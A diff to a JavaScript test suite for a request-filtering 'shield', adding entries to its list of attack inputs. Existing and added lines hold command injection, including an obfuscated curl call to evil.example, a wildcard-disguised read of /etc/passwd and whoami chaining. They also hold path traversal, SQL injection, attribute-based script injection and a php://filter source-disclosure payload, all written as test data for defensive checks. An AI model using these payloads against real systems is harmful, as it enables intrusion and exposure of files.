@@ -54,6 +54,10 @@ describe("the shield", () => {
       ["/guarded/x", JSON.stringify({ host: "$(c\\url -s evil.example)" })],
       ["/guarded/x", JSON.stringify({ file: "..;/..;/manager/html" })],
       ["/guarded/x", JSON.stringify({ id: "1)) or ((1=1" })],
+      ["/guarded/x", JSON.stringify({ title: '" onmouseover=fetch(1) x="' })],
+      ["/guarded/x", JSON.stringify({ page: "php://filter/convert.base64-encode/resource=index.php" })],
+      ["/guarded/x", JSON.stringify({ host: "example.org & whoami" })],
+      ["/guarded/x", JSON.stringify({ host: "x; /???/??t /???/p??s??" })],
       ["/guarded/search?host=example.org%20%26%26%20/usr/bin/id", undefined],
     ];
     for (const [path, body, type] of attacks) {
